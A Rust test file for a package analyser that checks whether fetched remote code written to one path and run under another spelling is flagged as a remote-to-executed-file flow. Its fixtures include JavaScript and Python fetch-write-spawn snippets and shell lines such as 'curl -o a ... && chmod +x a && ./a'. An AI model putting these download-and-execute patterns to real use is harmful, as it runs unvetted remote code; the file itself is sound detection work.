//! Files that are written under one spelling and run under another.

use super::same;
use crate::flow::testing::{found, script, wheel};
use crate::unpack::Entry;
use customs_model::{SinkKind, SourceKind};

fn runs(entries: Vec<Entry>) -> bool {
    let found = found(entries);
    let mut flows = found.flows.iter();
    flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::ExecutedFile)
}

/// Whether JavaScript that writes what it fetches to one path, and starts another, runs it.
fn starts(written: &str, started: &str) -> bool {
    runs(script(&format!(
        "const fs = require('fs'), cp = require('child_process'), path = require('path');\n\
         fetch('https://x.invalid/').then((r) => r.arrayBuffer()).then((bytes) => {{\n  \
         fs.writeFileSync({written}, Buffer.from(bytes));\n  {started};\n}});"
    )))
}

/// The same in Python.
fn starts_in_python(written: &str, started: &str) -> bool {
    runs(wheel(&format!(
        "import os, subprocess, urllib.request\n\
         data = urllib.request.urlopen('https://x.invalid/').read()\n\
         with open({written}, 'wb') as out:\n    out.write(data)\n{started}\n"
    )))
}

#[test]
fn a_name_of_one_letter_is_a_file_where_both_ends_are_paths() {
    for written in [
        "'a'",
        "'./a'",
        "path.resolve('a')",
        "path.join(__dirname, 'a')",
    ] {
        assert!(starts(written, "cp.spawn('./a')"), "{written}");
        assert!(starts(written, "cp.spawn(path.resolve('a'))"), "{written}");
        assert!(starts(written, "cp.exec('node a')"), "{written}");
        assert!(!starts(written, "cp.spawn('./b')"), "{written}");
        assert!(!starts(written, "cp.spawn('./d/a')"), "{written}");
        // A program that is looked up, an argument of one, and a module that is installed.
        assert!(!starts(written, "cp.spawn('a')"), "{written}");
        assert!(!starts(written, "cp.spawn('git', ['a'])"), "{written}");
        assert!(!starts(written, "require('a')"), "{written}");
    }
    assert!(starts_in_python("'a'", "subprocess.run(['./a'])"));
    assert!(starts_in_python("'a'", "os.system('./a')"));
    assert!(!starts_in_python("'a'", "subprocess.run(['./b'])"));
    assert!(!starts_in_python("'a'", "subprocess.run(['git', 'a'])"));
}

#[test]
fn a_command_line_runs_the_file_that_it_fetched_to_one_letter() {
    let line = |line: &str| {
        runs(script(&format!(
            "require('child_process').execSync('{line}')"
        )))
    };
    assert!(line("curl -o a https://x.invalid/ && chmod +x a && ./a"));
    assert!(line("curl -o a https://x.invalid/ && sh a"));
    assert!(!line("curl -o a https://x.invalid/ && ./b"));
}

#[test]
fn the_folder_of_the_package_is_the_one_that_its_hook_stands_in() {
    let spellings = [
        "'helper'",
        "'./helper'",
        "'./x/../helper'",
        "path.resolve('helper')",
        "path.join(__dirname, 'helper')",
        "process.cwd() + '/helper'",
    ];
    for written in spellings {
        for started in &spellings[1..] {
            let started = format!("cp.spawn({started})");
            assert!(starts(written, &started), "{written} {started}");
        }
    }
}

#[test]
fn paths_of_which_something_is_not_known_are_not_put_in_order() {
    let hole = "\u{fdd0}?\u{fdd1}";
    assert!(!same(&format!("{hole}/a"), "./a"));
    assert!(!same(hole, hole));
    assert!(!same("/a", "a"));
    assert!(same("/./a", "/a"));
}
